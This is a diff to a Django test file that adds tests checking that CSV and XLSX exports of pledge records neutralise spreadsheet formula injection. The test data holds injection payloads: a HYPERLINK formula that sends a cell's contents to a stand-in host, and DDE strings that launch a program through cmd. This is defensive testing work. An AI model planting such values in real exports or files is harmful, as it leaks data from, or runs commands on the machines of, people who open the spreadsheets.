@@ -3,6 +3,7 @@ to equal records."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -209,3 +210,67 @@ def test_admin_exports_a_selection_and_a_whole_type(editor_client):
     assert json.loads(response.content)["records"]["pledge"][0]["recipient"] == "UA"
     changelist = editor_client.get(reverse("admin:transfers_transfer_changelist"))
     assert b"Import a dataset" in changelist.content and b"Export XLSX" in changelist.content
+
+
+# -- formulas (issue 14, part 3) -------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "'plain apostrophe",
+]
+
+
+def formula_records():
+    ua = Country.objects.get(code="UA")
+    system = weapon_system_create(name="=cmd|' /C calc'!A0")
+    for text in FORMULAS:
+        record_create(model=Pledge, recipient=ua, system=system, quantity_text="5", notes=text)
+
+
+def _dangerous(value) -> bool:
+    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_csv_exports_make_formula_cells_inert():
+    formula_records()
+    rows = list(csv.reader(io.StringIO(export_csv().decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(_dangerous(cell) for cell in cells)
+    assert "'" + FORMULAS[0] in cells and "''plain apostrophe" in cells
+
+
+def test_xlsx_exports_hold_no_formula():
+    from openpyxl import load_workbook
+
+    formula_records()
+    book = load_workbook(io.BytesIO(export_xlsx()))
+    cells = [cell for row in book["pledge"].iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert not any(_dangerous(cell.value) for cell in cells)
+
+
+def test_the_admin_and_the_api_csv_use_the_same_rule(editor_client, api_client_for, editor):
+    formula_records()
+    admin_csv = editor_client.get(reverse("admin:transfers_export", args=["pledge", "csv"]))
+    api_csv = api_client_for(editor).get("/api/v1/pledges/?format=csv")
+    for body in (admin_csv.content, api_csv.content):
+        cells = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
+        assert not any(_dangerous(cell) for cell in cells)
+        assert "'" + FORMULAS[0] in cells
+
+
+def test_formula_cells_survive_the_csv_round_trip():
+    formula_records()
+    before = comparable(systems_in_full=False)
+    data = export_csv()
+    wipe()
+    report = import_file("stockpile-csv", data)
+    assert report.written, report.summary()
+    assert comparable(systems_in_full=False) == before
+    assert sorted(Pledge.objects.values_list("notes", flat=True)) == sorted(FORMULAS)
